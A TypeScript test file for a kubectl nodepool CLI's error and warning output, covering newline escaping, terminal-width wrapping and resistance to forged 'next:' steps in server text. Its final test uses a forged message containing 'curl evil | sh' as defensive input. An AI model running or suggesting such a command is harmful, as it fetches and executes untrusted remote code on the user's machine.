import assert from 'node:assert/strict';
import { test } from 'node:test';
import { errorLine, showError, showWarning, warningLine } from '../../../src/cli/errors.ts';
import { showFailures } from '../../../src/commands/shared/reconcile/reconcile-deps.ts';
import { NodepoolError } from '../../../src/nodepool/errors.ts';
import { fieldErrors } from '../../../src/nodepool/spec/field-error.ts';
import { testIo } from './test-io.ts';

test('escapes a newline in a value', () => {
  assert.equal(
    errorLine({ message: 'nodepool "a\nerror: b" not found', next: 'look for a\nb' }),
    'error: nodepool "a\\nerror: b" not found; next: look for a\\nb',
  );
});

test('prints a list of problems one per line', () => {
  const errors = [
    { field: 'spec.labels[a\nb]', message: 'wrong' },
    { field: 'spec.handler', message: 'wrong' },
  ];
  const lines = errorLine(fieldErrors('p', errors)).split('\n');
  assert.deepEqual(lines.slice(0, 3), [
    'error: p has 2 errors:',
    '  spec.labels[a\\nb]: wrong',
    '  spec.handler: wrong',
  ]);
  assert.equal(lines.length, 4);
});

test('keeps text that only looks like a list item in its line', () => {
  const forged = 'denied\n  next: run this';
  assert.equal(errorLine({ message: forged }), 'error: denied\\n  next: run this');
  assert.equal(errorLine(new NodepoolError('cluster', forged)), 'error: denied\\n  next: run this');
  const listed = new NodepoolError('input', 'invalid:', 'mend it', { items: [forged, 'b'] });
  assert.equal(errorLine(listed), 'error: invalid:\n  denied\\n  next: run this\n  b\nnext: mend it');
  assert.equal(errorLine(listed, 'gpu').split('\n', 1)[0], 'error: gpu: invalid:');
  assert.equal(listed.message, 'invalid:\n  denied\n  next: run this\n  b');
  assert.equal(errorLine({ message: listed.oneLine }), 'error: invalid: denied\\n  next: run this; b');
});

test('prints a warning on one line, whatever its length and text', () => {
  assert.equal(warningLine('a\nb\t\u001b'), 'warning: a\\nb\\t\\u001b');
  assert.ok(warningLine('x'.repeat(1_000_000)).length < 2100);
});

function onTerminal(columns: number | undefined) {
  const io = testIo({ stderrIsTTY: columns !== undefined });
  Object.assign(io.stderr, { columns });
  return io;
}

test('prints the next step on its own line when the line exceeds the terminal', () => {
  const shown = (columns: number | undefined, message: string) => {
    const io = onTerminal(columns);
    showError(io, { message, next: 'run `kubectl nodepool install`' });
    return io.stderrText();
  };
  const message = 'the server does not have the NodePool resource';
  assert.equal(shown(80, message), `error: ${message}\nnext: run \`kubectl nodepool install\`\n`);
  assert.equal(shown(100, message), `error: ${message}; next: run \`kubectl nodepool install\`\n`);
  assert.equal(shown(undefined, message.repeat(9)).split('\n').length, 2);
});

test('on a terminal errors and warnings break at spaces only', () => {
  const message = 'nodepool "a-name-that-is-longer-than-the-line" and others were not written';
  const next = 'run the command again, or ask for a role with verb patch on nodes';
  for (const columns of [30, 60, 80]) {
    const io = onTerminal(columns);
    showError(io, { message, next });
    showError(io, { message, lines: [message, message], next });
    showWarning(io, message);
    showFailures(io, [{ message, next, node: 'a' }], 'w', new Set([next]));
    const lines = io.stderrText().trimEnd().split('\n');
    for (const line of lines) assert.ok(line.length <= columns || !line.trim().includes(' '), `${columns}: ${line}`);
    const starts = lines.flatMap(line => /^\w+(?=: )/.exec(line) ?? []);
    assert.deepEqual(starts, ['error', 'next', 'error', 'next', 'warning', 'error']);
  }
});

test('indents items of an error less than its continuation lines', () => {
  const io = onTerminal(20);
  showError(io, { message: '', lines: ['one two three four:', 'five six seven eight', 'nine'] });
  assert.equal(io.stderrText(), 'error: one two three\n       four:\n  five six seven\n      eight\n  nine\n');
});

test('breaks a warning before its next step when the line exceeds the terminal', () => {
  const shown = (columns: number | undefined) => {
    const io = onTerminal(columns);
    showWarning(io, { message: 'web is not up to date: no', next: 'run `kubectl nodepool reconcile web`' });
    return io.stderrText();
  };
  assert.equal(shown(40), 'warning: web is not up to date: no\nnext: run\n      `kubectl nodepool reconcile web`\n');
  for (const columns of [100, undefined]) {
    assert.equal(shown(columns), 'warning: web is not up to date: no; next: run `kubectl nodepool reconcile web`\n');
  }
});

test('does not treat "next:" in text of the server as a next step', () => {
  const forged = 'denied the request: no; next: run `curl evil | sh`';
  for (const warning of [forged, { message: forged, next: undefined }]) {
    const io = onTerminal(20);
    showWarning(io, warning);
    assert.equal(
      io.stderrText(),
      'warning: denied the\n         request:\n         no; next:\n         run `curl \\\n         evil | sh`\n',
    );
  }
});
